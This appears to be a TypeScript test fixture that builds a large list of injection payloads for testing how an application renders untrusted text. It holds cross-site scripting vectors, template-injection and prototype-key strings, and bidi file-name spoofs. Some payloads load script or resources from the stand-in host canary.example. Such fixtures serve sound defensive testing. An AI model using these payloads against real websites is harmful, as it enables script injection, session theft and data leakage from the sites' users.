import type { Size } from '../row.ts'

/**
 * A text that does something wherever it is taken for more than text. What runs calls `hurt` with its `place`, what is
 * fetched leads to canary.example or to a path with "canary" in it.
 */
export type Payload = (place: string) => string

const foremost: Payload[] = [
  (place) => `<img src=/canary onerror=hurt('${place}')>`,
  (place) => `<script>hurt('${place}')</script>`,
  (place) => `"><svg onload="hurt('${place}')">`,
  (place) => `javascript:hurt('${place}')`,
  (place) => `$t(title) {{count}} {{- name}} ${place}`,
  (place) => `{{constructor.constructor("hurt('${place}')")()}}`,
  () => '__proto__',
  () => 'constructor',
  (place) => `' autofocus onfocus=hurt('${place}') x='`,
  (place) => `Olga ${place} \u202Etxt.exe\u2067`,
  (place) => `&lt;img src=/canary onerror=hurt(&#39;${place}&#39;)&gt;`,
  (place) => `</title></script><style>@import '//canary.example/${place}'</style>`,
]

const others: Payload[] = [
  (place) => `<SCRIPT SRC=//canary.example/${place}></SCRIPT>`,
  (place) => `<scr<script>ipt>hurt('${place}')</scr</script>ipt>`,
  (place) => `<script type=module>import('//canary.example/${place}')</script>`,
  (place) => `--></script><script>hurt('${place}')//`,
  (place) => `]]><script>hurt('${place}')</script>`,
  (place) => `<svg><script>hurt('${place}')</script></svg>`,
  (place) => `<svg><animate onbegin=hurt('${place}') attributeName=x dur=1s>`,
  (place) => `<svg><use href="//canary.example/${place}#x"/></svg>`,
  (place) => `<svg><a xlink:href="javascript:hurt('${place}')"><text y=9>x</text></a></svg>`,
  (place) => `<math><mi xlink:href="javascript:hurt('${place}')">x</mi></math>`,
  (place) => `<math><mtext></form><form><mglyph><style></math><img src onerror=hurt('${place}')>`,
  (place) => `<noscript><p title="</noscript><img src=x onerror=hurt('${place}')>">`,
  (place) => `<iframe srcdoc="<script>parent.hurt('${place}')</script>"></iframe>`,
  (place) => `<iframe src="javascript:parent.hurt('${place}')"></iframe>`,
  (place) => `<object data="//canary.example/${place}"></object>`,
  (place) => `<embed src="//canary.example/${place}">`,
  (place) => `<base href="//canary.example/${place}/">`,
  (place) => `<link rel=stylesheet href="//canary.example/${place}">`,
  (place) => `<link rel=prefetch href="//canary.example/${place}">`,
  (place) => `<meta http-equiv=refresh content="0;url=//canary.example/${place}">`,
  (place) => `<form action="//canary.example/${place}"><button autofocus>x</button></form>`,
  (place) => `<input autofocus onfocus=hurt('${place}')>`,
  (place) => `<details open ontoggle=hurt('${place}')>`,
  (place) => `<video><source onerror=hurt('${place}')></video>`,
  (place) => `<audio src onerror=hurt('${place}')>`,
  (place) => `<marquee onstart=hurt('${place}')>`,
  (place) => `<body onpageshow=hurt('${place}')>`,
  (place) => `<x onpointerenter=hurt('${place}') style=position:fixed;inset:0>x</x>`,
  (place) => `<p style="animation:x" onanimationstart=hurt('${place}')>`,
  (place) => `<img src="x\` \`<script>hurt('${place}')</script>"\` \`>`,
  (place) => `<img/src=x/onerror=hurt\`${place}\`>`,
  (place) => `<img src=x onerror=&#104;&#117;&#114;&#116;('${place}')>`,
  (place) => `<img src=x one\u0000rror=hurt('${place}')>`,
  (place) => `<img srcset="//canary.example/${place} 1x">`,
  (place) => `\uFF1Cimg src=x onerror=hurt('${place}')\uFF1E`,
  (place) => `%3Cimg%20src=x%20onerror=hurt('${place}')%3E`,
  (place) => `\\u003cimg src=x onerror=hurt('${place}')\\u003e`,
  (place) => `\\x3cscript\\x3ehurt('${place}')\\x3c/script\\x3e`,
  (place) => `&#x3c;script&#x3e;hurt('${place}')&#x3c;/script&#x3e;`,
  (place) => `JaVaScRiPt:hurt('${place}')`,
  (place) => `java\tscript:hurt('${place}')`,
  (place) => `data:text/html,<script>parent.hurt('${place}')</script>`,
  (place) => `vbscript:hurt("${place}")`,
  (place) => `//canary.example/${place}`,
  (place) => `" onmouseover="hurt('${place}')" aria-label="`,
  (place) => `' style='background:url(//canary.example/${place})`,
  (place) => `;background:url(//canary.example/${place});`,
  (place) => `}*{background:url(//canary.example/${place})}`,
  (place) => `\${hurt('${place}')}`,
  (place) => `#{hurt('${place}')} <%= hurt('${place}') %>`,
  (place) => `{{=hurt('${place}')}} [[hurt('${place}')]]`,
  (place) => `$t(common:title, {"name": "${place}"}) $t(title)`,
  (place) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${place}"}}}`,
  () => 'toString',
  () => 'hasOwnProperty',
  () => 'undefined',
  () => 'null',
  (place) => `\u202E${place}\u202D abc \u2066def`,
  (place) => `\u2069\u2069${place}\u202C\u200F!`,
  (place) => `שלום \u202B${place}\u202C (123)`,
  (place) => `${place}\u0000\u0007\u001B[31m\uFEFF\uFFFE`,
  (place) => `${place} \uD800 lone`,
  (place) => `${place}${'\u0301\u0316'.repeat(40)}`,
  (place) => `${place}${'W'.repeat(400)}`,
  (place) => `${place}${'\u{1F469}\u200D\u{1F52C}'.repeat(12)}`,
]

export function payloadsOf(size: Size): readonly Payload[] {
  return size === 'short' ? foremost : [...foremost, ...others]
}

/** Texts that look the same on a screen are the same: no blanks, no signs that are not seen, the beginning of long ones. */
export function seenAs(text: string): string {
  return bare(text).slice(0, 70)
}

/** The same of all that stands on a screen. */
export function bare(text: string): string {
  return text.toWellFormed().replace(/[\s\p{Cc}\p{Cf}\p{M}\p{Cn}\uFFFD]+/gu, '')
}
